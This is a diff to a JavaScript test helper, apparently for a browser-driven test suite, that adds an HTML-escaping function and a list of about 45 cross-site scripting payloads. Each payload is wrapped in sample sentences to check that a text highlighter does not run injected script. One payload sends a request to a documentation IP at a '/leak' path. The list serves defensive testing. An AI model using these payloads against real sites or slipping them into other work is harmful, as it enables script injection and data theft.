@@ -132,3 +132,62 @@ export async function routeTrappingGlue(target) {
     await route.fulfill({ response: res, body, headers: { ...res.headers(), 'content-type': 'text/javascript; charset=utf-8' } });
   });
 }
+
+/** Escapes text for an HTML fixture (so a payload is page text, as a CMS would show it). */
+export function escapeHtml(s) {
+  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+}
+
+const XSS_BASE = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(2)</script>',
+  '<svg onload=alert(3)>',
+  '<svg><script>alert(4)</script></svg>',
+  '<a href="javascript:alert(5)">click</a>',
+  '<iframe src="javascript:alert(6)"></iframe>',
+  '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
+  '<body onload=alert(8)>',
+  '<input autofocus onfocus=alert(9)>',
+  '<details open ontoggle=alert(10)>',
+  '<video><source onerror=alert(11)></video>',
+  '<audio src=x onerror=alert(12)>',
+  '<marquee onstart=alert(13)>',
+  '<object data="javascript:alert(14)"></object>',
+  '<embed src="javascript:alert(15)">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>',
+  '<form action="javascript:alert(17)"><button>go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
+  '<link rel=import href="data:text/html,<script>alert(19)</script>">',
+  '<base href="javascript:alert(20)//">',
+  '"><script>alert(21)</script>',
+  "'><img src=x onerror=alert(22)>",
+  '</textarea><script>alert(23)</script>',
+  '</title><script>alert(24)</script>',
+  '<style>@import "javascript:alert(25)";</style>',
+  '<div style="background:url(javascript:alert(26))">',
+  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(27)">',
+  '<img src=x onerror=\\u0061lert(28)>',
+  '<scr<script>ipt>alert(29)</scr</script>ipt>',
+  '{{constructor.constructor("alert(30)")()}}',
+  '${alert(31)}',
+  '#{alert(32)}',
+  '<%= alert(33) %>',
+  '{{7*7}}[[7*7]]',
+  'javascript:alert(35)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgzNik8L3NjcmlwdD4=',
+  '<template><img src=x onerror=alert(37)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(38)>">',
+  '<svg><animate onbegin=alert(39) attributeName=x dur=1s>',
+  '<img src=x onerror=fetch("http://198.51.100.7/leak")>',
+  '\u003cimg src=x onerror=alert(41)\u003e',
+  '<IMG SRC=JaVaScRiPt:alert(42)>',
+  '<img src=`x` onerror=alert(43)>',
+  '<svg/onload=alert(44)>',
+  '<x contenteditable onblur=alert(45)>lose focus</x>',
+];
+
+/**
+ * At least 100 XSS payloads: each base vector bare, inside a quotation, and
+ * next to a figure and a name (where the highlighter looks hardest).
+ */
+export const XSS_PAYLOADS = XSS_BASE.flatMap((p) => [p, `Kelly said "${p}" on Monday.`, `Acme Corp paid $5 million for ${p} in Paris.`]);
